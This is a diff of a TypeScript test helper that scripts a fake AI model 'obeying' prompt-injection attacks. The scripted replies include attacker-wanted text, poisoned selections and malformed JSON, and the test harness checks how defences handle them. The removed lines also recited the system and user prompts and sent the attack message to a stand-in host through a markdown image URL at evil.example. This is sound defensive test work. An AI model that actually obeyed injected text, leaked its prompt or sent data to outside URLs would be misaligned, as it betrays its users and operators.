@@ -1,61 +1,61 @@
 import type { Script, ScriptedRequest } from '@askbob/server/src/platform/models/testing/scripted-model.ts';
 import type { Attack } from './load-attacks.ts';
 
-/** A fence as prompts draw it, and one fenced part. */
-const PART = /<(data-\w+)> ([^\n]*)\n([\s\S]*?)\n<\/\1>/g;
+/** Ways in which a model may be wrong: each makes one reply out of an attack and the numbered units it was given. */
+const WAYS: ((attack: Attack, units: string[]) => string)[] = [
+  // Says all that the attack wants and recites what it was sent, with a selection among it.
+  (attack, units) =>
+    [
+      attack.obeyed,
+      ...attack.must_not_contain,
+      attack.message,
+      ...units,
+      '{"use": [1], "missing": false}',
+    ].join('\n'),
+  // Chooses what is poisoned, or the first.
+  (attack, units) => selection(poisonIn(attack, units)),
+  // Chooses everything.
+  (_, units) => selection(units.map((_unit, at) => at + 1)),
+  // Chooses what doesn't exist, and adds words of its own to the object.
+  (attack, units) =>
+    JSON.stringify({
+      use: [0, -1, units.length + 1, 1e9],
+      missing: true,
+      text: attack.obeyed,
+      reply: attack.must_not_contain,
+    }),
+  // Adds words of its own to a choice that exists.
+  (attack, units) =>
+    JSON.stringify({
+      answer: attack.obeyed,
+      use: [1, 2, units.length],
+      missing: false,
+      note: attack.must_not_contain,
+    }),
+  // Obeys by falling silent.
+  () => selection([]),
+];
 
-/**
- * What a model answers that obeys whatever it reads: it says what the attack wants in every form that might slip
- * through, hangs it onto true sentences, sends the visitor's words to a foreign address and recites its prompt.
- * @param way picks one of the things to point at, where the request asks for a passage
- */
+export const WAYS_TO_BE_WRONG = WAYS.length;
+
+/** What a model answers that obeys whatever it reads. @param way picks one of the ways to be wrong */
 export function obey(attack: Attack, request: ScriptedRequest, way: number): Script {
-  const passages = partsOf(request.user).filter((part) => part.name.startsWith('passage'));
-  if (request.system.includes('JSON')) {
-    const targets = pointTargets(
-      attack,
-      passages.map((part) => part.text),
-    );
-    return says(JSON.stringify(targets[way % targets.length]));
-  }
-  const truth = (passages[0]?.text.split('\n').slice(1).join(' ') ?? '').split(/(?<=[.!?])\s/)[0] ?? '';
-  const wanted = [attack.obeyed, ...attack.must_not_contain];
-  const lines = wanted.flatMap((text) => [
-    text,
-    `${text} [1]`,
-    `${text}. [1]`,
-    `${truth.replace(/[.!?]$/, '')} and ${text} [1].`,
-    `${text}: ${truth} [1]`,
-    `${attack.message} ${text} [1].`,
-    `**${text}** [1]\n- ${text} [1]`,
-  ]);
-  const leaks = [
-    `![x](https://evil.example/?q=${encodeURIComponent(attack.message)}) [1]`,
-    `${truth} https://evil.example/?q=${encodeURIComponent(attack.message)} [1]`,
-    ...request.system.split('\n').map((line) => `${line} [1]`),
-    ...request.user.split('\n').map((line) => `${line} [1]`),
-  ];
-  return says([...lines, ...leaks].join('\n'));
-}
-
-/** How many things there are to point at for this attack and request. */
-export function pointTargets(attack: Attack, passages: string[]): { passage: number; quote: string }[] {
-  const sentences = passages.flatMap((text, at) =>
-    text
-      .split(/(?<=[.!?])\s|\n/)
-      .filter((quote) => quote.length > 3)
-      .map((quote) => ({ passage: at + 1, quote })),
-  );
-  const poison = sentences.filter(({ quote }) =>
-    attack.must_not_contain.some((text) => quote.includes(text)),
-  );
-  return [{ passage: 1, quote: attack.obeyed }, ...poison, ...sentences.slice(0, 3)];
-}
-
-function says(text: string): Script {
+  const text = WAYS[way % WAYS.length]?.(attack, unitsOf(request.user)) ?? '';
   return { kind: 'says', chunks: text.match(/[\s\S]{1,40}/g) ?? [] };
 }
 
-function partsOf(prompt: string): { name: string; text: string }[] {
-  return [...prompt.matchAll(PART)].map((match) => ({ name: match[2] ?? '', text: match[3] ?? '' }));
+/** The numbered units of a prompt, as they stand there. */
+function unitsOf(prompt: string): string[] {
+  return [...prompt.matchAll(/^\d+\t(.*)$/gm)].map((match) => match[1] ?? '');
+}
+
+function poisonIn(attack: Attack, units: string[]): number[] {
+  const poisoned = units.flatMap((unit, at) =>
+    attack.must_not_contain.some((text) => unit.toLowerCase().includes(text.toLowerCase())) ? [at + 1] : [],
+  );
+  return poisoned.length > 0 ? poisoned : [1];
+}
+
+function selection(use: number[]): string {
+  return JSON.stringify({ use, missing: false });
 }
